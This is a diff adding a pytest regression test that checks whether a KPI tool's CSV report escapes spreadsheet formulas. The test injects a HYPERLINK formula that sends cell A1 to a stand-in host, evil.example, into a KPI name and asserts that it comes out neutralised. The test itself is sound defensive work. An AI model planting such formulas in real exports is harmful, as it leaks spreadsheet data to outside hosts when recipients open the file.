@@ -10,6 +10,7 @@ import yaml
 
 from observatory import calendar
 from observatory.cli import main
+from observatory.config import shipped_kpi_dir
 from observatory.kpis import queries
 from observatory.kpis.engine import recompute
 from tests.kpis.conftest import FIXTURES
@@ -137,3 +138,29 @@ def test_cli_show_names_a_fiscal_year_as_the_calendar_does(capsys, warehouse):
     assert (row["period"], row["period_label"], row["value"]) == ("2023-04-01", "FY2023", 80.0)
     code, out, _err = _run(capsys, "--home", home, "kpi", "show", "inventory_online_usage_rate", "--format", "csv")
     assert "2023-04-01" in out and "FY2023" in out
+
+
+def test_cli_csv_output_never_carries_a_live_formula(capsys, warehouse, shipped):
+    """A KPI named =HYPERLINK(...) in a workspace's own definitions came out of `kpi report --format csv` as a live
+    formula (the public kpis.csv escaped the same name): every text cell goes through the one escape, csv_safe."""
+    import csv
+    import io
+    import shutil
+
+    home = warehouse.db_path.parent
+    own = home / "kpis"
+    shutil.copytree(shipped_kpi_dir(), own)
+    path = own / "my_number_card.yaml"
+    text = path.read_text(encoding="utf-8")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    first_ja = yaml.safe_load(text)["kpis"][0]["name"]["ja"]
+    assert f'ja: "{first_ja}"' in text
+    path.write_text(text.replace(f'ja: "{first_ja}"', f"ja: '{formula}'", 1), encoding="utf-8")
+    config = home / "observatory.yaml"
+    config.write_text(config.read_text(encoding="utf-8") + "\nkpi_definitions: kpis\n", encoding="utf-8")
+    code, out, err = _run(capsys, "--home", str(home), "kpi", "report", "--format", "csv")
+    assert code == 0, err
+    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
+    assert "'" + formula in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "@")) or (c.startswith("-") and c != "-" and not
+                                                                       c.lstrip("-").replace(".", "").isdigit())]
